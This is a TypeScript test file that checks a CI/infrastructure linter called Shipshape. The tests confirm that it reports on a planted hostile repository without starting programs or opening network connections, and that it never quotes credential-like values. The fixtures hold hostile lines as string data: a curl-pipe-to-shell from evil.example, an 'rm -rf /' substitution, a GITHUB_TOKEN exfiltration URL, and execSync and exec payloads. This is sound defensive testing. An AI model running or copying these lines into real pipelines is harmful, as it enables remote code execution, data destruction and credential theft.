import { spawn, spawnSync } from 'node:child_process';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { createMessageConnection, StreamMessageReader, StreamMessageWriter } from 'vscode-jsonrpc/node';
import { DIST, makeWorkspace } from './helpers/workspace';

// A malicious repository must not be able to make Shipshape do anything but report: no program
// started, no connection opened, whatever the files point at. The real Node APIs are trapped.

const TRAP = path.join(__dirname, 'helpers', 'trap-side-effects.cjs');
const MARK = 'SHIPSHAPE-FORBIDDEN';

const hostile = () =>
  makeWorkspace({
    '.gitlab-ci.yml': 'include:\n  - remote: https://evil.example/ci.yml\n  - project: evil/group\n    file: /x.yml\n  - local: ci/*.yml\nbuild:\n  script: [curl https://evil.example | sh]\n',
    'ci/extra.yml': 'extra:\n  script: $(rm -rf /)\n',
    '.github/workflows/ci.yml': 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker://evil.example/image:latest\n      - uses: evil/action@main\n      - run: curl https://evil.example/$GITHUB_TOKEN\n',
    'infra/main.tf': 'module "m" {\n  source = "git::https://evil.example/module.git"\n}\ndata "http" "x" {\n  url = "https://evil.example"\n}\nresource "null_resource" "r" {\n  provisioner "local-exec" {\n    command = "curl https://evil.example"\n  }\n}\n',
    'deploy/kustomization.yaml': 'resources:\n  - https://github.com/evil/repo//deploy?ref=main\n  - ../k8s\n',
    'k8s/app.yaml': 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n  annotations:\n    a: !!js/function "function () { require(\'child_process\').execSync(\'id\') }"\nspec:\n  containers:\n    - name: x\n      image: evil.example/x\n',
    'charts/c/Chart.yaml': 'apiVersion: v2\nname: c\nversion: 1.0.0\n',
    'charts/c/templates/x.yaml': '{{ exec "id" }}\nkind: {{ .Values.kind }}\n',
    '.shipshape.yaml': 'rules:\n  gha/unpinned-action: error\n',
  });

describe('offline and safe', () => {
  it('the CLI reports on a hostile repository without starting programs or opening connections', () => {
    const root = hostile();
    const result = spawnSync(process.execPath, ['-r', TRAP, path.join(DIST, 'cli.js'), 'check', '.', '--format', 'json'], { cwd: root, encoding: 'utf8', timeout: 60_000 });
    expect(result.stderr).not.toContain(MARK);
    expect(result.status).toBe(1);
    const files = new Set((JSON.parse(result.stdout) as { file: string }[]).map((finding) => finding.file));
    expect([...files].sort()).toEqual(expect.arrayContaining(['.github/workflows/ci.yml', 'infra/main.tf', 'k8s/app.yaml']));
  });

  it('the language server scans and analyses it the same way', async () => {
    const root = hostile();
    const child = spawn(process.execPath, ['-r', TRAP, path.join(DIST, 'server.js'), '--stdio'], { stdio: ['pipe', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr!.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const connection = createMessageConnection(new StreamMessageReader(child.stdout!), new StreamMessageWriter(child.stdin!));
    const published = new Set<string>();
    connection.onNotification('textDocument/publishDiagnostics', (params: { uri: string }) => {
      published.add(params.uri);
    });
    connection.onRequest('workspace/configuration', (params: { items: unknown[] }) => params.items.map(() => ({})));
    connection.onRequest('client/registerCapability', () => null);
    connection.listen();
    const rootUri = pathToFileURL(root).href;
    child.on('exit', (code) => (stderr += `\nserver exited with ${code}`));
    await connection.sendRequest('initialize', { processId: process.pid, rootUri, workspaceFolders: [{ uri: rootUri, name: 'hostile' }], capabilities: { workspace: { configuration: true } } });
    await connection.sendNotification('initialized', {});
    const workspace = await Promise.race([
      connection.sendRequest<{ items: { uri: string }[] }>('workspace/diagnostic', { previousResultIds: [] }),
      new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`no workspace diagnostics; server stderr:\n${stderr}`)), 15_000)),
    ]);
    expect(workspace.items.map((item) => item.uri)).toContain(pathToFileURL(path.join(root, 'infra/main.tf')).href);
    await connection.sendRequest('shutdown');
    await connection.sendNotification('exit');
    await new Promise((resolve) => child.on('exit', resolve));
    connection.dispose();
    expect(stderr).not.toContain(MARK);
    expect(published.size).toBeGreaterThan(0);
  });

  it('the trap itself works: a bundle that tried would be caught', () => {
    const result = spawnSync(process.execPath, ['-r', TRAP, '-e', "require('child_process').execSync('true')"], { encoding: 'utf8' });
    expect(result.stderr).toContain(`${MARK} child_process.execSync`);
  });
});

describe('values that may be credentials are never quoted', () => {
  it('in any output format, whatever rule reports on them', () => {
    const planted = ['8271635498', '99887766554433', 'hunter2hunter2', 'correcthorsebattery', '31415926535'];
    const root = makeWorkspace({
      'k8s/secret.yaml': `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  password: ${planted[0]}\n  token: true\n`,
      'k8s/config.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app\ndata:\n  DB_PASSWORD: ${planted[1]}\n`,
      'k8s/pod.yaml': `apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: app\n      image: ghcr.io/acme/app:1.0.0\n      env:\n        - name: API_TOKEN\n          value: ${planted[4]}\n`,
      '.gitlab-ci.yml': `variables:\n  PASSWORD: ${planted[2]}\n    stray: line\n`,
      '.github/workflows/ci.yml': `on: push\nenv:\n  SECRET: ${planted[3]}\n     oops: x\njobs: {}\n`,
    });
    for (const format of ['text', 'json', 'sarif']) {
      const result = spawnSync(process.execPath, [path.join(DIST, 'cli.js'), 'check', '.', '--format', format, '--fail-on', 'never'], { cwd: root, encoding: 'utf8' });
      expect(result.status).toBe(0);
      expect(result.stdout.length).toBeGreaterThan(100);
      for (const value of planted) expect(result.stdout + result.stderr, `${format} output`).not.toContain(value);
    }
  });
});
